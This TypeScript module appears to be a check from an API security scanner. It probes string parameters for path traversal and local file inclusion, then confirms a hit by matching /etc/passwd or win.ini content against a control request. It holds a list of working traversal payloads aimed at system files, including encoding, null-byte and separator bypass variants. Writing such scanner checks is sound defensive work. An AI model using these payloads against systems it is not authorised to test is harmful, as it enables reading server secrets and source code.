import { defineInjection, type Attempt, type Point } from "../../attacks/injection.ts";
import type { Parameter } from "../../inventory/operation.ts";

export default defineInjection({
  id: "input-validation/path-traversal",
  title: "Path traversal / local file inclusion",
  severity: { default: "high", financial: "critical", medical: "critical" },
  confidence: "confirmed",
  description:
    "The value becomes part of a file path and can leave its directory. An attacker can read files of the server, such as source code, configuration and keys.",
  rule: "The response contains content that only a well-known operating system file has, and does not for a random file name in the same directory.",
  control: "A random file name in the same directory.",
  remediation:
    "Map user input to an allowlist of files, or resolve the full path and reject it unless it is inside the intended directory.",
  references: {
    cwe: 22,
    owasp: "API8:2023",
    cvss: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N",
  },

  cost: 3,
  into: ({ type }) => type === "string",
  prior: (parameter) => (namesFile(parameter) ? 2 : 0.4),
  notApplicable: "No read takes a string.",
  attempts: [
    reading((up) => `${up}etc/passwd`),
    reading(() => "/etc/passwd", { deep: "likely" }),
    reading((up) => `${up}windows/win.ini`, { deep: "likely" }),
    reading((up) => `${up.replaceAll("../", "....//")}etc/passwd`, { deep: "likely" }),
    reading(() => "file:///etc/passwd", { deep: "likely" }),
    reading((up) => `${up.replaceAll("../", "%2e%2e%2f")}etc/passwd`, { deep: "likely" }), // decoded twice
    reading((up) => `${up.replaceAll("../", "..\\")}windows\\win.ini`, { deep: "likely" }),
    reading((up) => `${up.replaceAll("../", "..;/")}etc/passwd`, { deep: "likely" }),
    // Behind the directory, before the extension, that the value must have.
    reading((up, baseValue) => `${directoryOf(baseValue)}${up}etc/passwd`, {
      deep: "likely",
      where: hasDirectory,
    }),
    reading((up, baseValue) => `${up}etc/passwd\0${extensionOf(baseValue)}`, { deep: "likely" }),
    reading((up, baseValue) => `${up}etc/passwd?${extensionOf(baseValue)}`, {
      deep: "likely",
      where: hasExtension,
    }),
  ],
});

/** Files that every such system has: what only they contain. */
const CONTENT = /\broot:[^:\s]{0,20}:0:0:|; for 16-bit app support|\[mci extensions\]/i;

/** More directories than any file is below. */
const UP = "../".repeat(8);

/** A file of the operating system by this path; the control is one of a random name in the same directory. */
function reading(path: (up: string, baseValue: string) => string, options: Partial<Attempt> = {}): Attempt {
  return {
    payload: ({ baseValue }) => path(UP, baseValue),
    control: ({ baseValue, nonce }) => path(UP, baseValue).replace(/passwd|win\.ini/, nonce),
    proof: ({ body }) =>
      CONTENT.test(body.slice(0, 262_144))
        ? "The content of an operating system file was in the response."
        : undefined,
    ...options,
  };
}

const directoryOf = (value: string): string => /^.*\//.exec(value)?.[0] ?? "";
const extensionOf = (value: string): string => /\.[a-z\d]{1,5}$/i.exec(value)?.[0] ?? ".png";
function hasDirectory({ baseValue }: Point): boolean {
  return directoryOf(baseValue) !== "";
}
function hasExtension({ baseValue }: Point): boolean {
  return /\.[a-z\d]{1,5}$/i.test(baseValue);
}

const namesFile = ({ name, sample }: Parameter): boolean =>
  FILE_NAME.test(name) || /^[\w/-]+\.[a-z]{2,4}$/i.test(sample);

const FILE_NAME =
  /file|path|dir(ectory)?$|folder|^doc(ument)?$|template|^page$|include|download|attachment|^report$|^log$|^lang(uage)?$|locale|theme|view|resource|asset|^(img|image|picture)$|^name$/i;
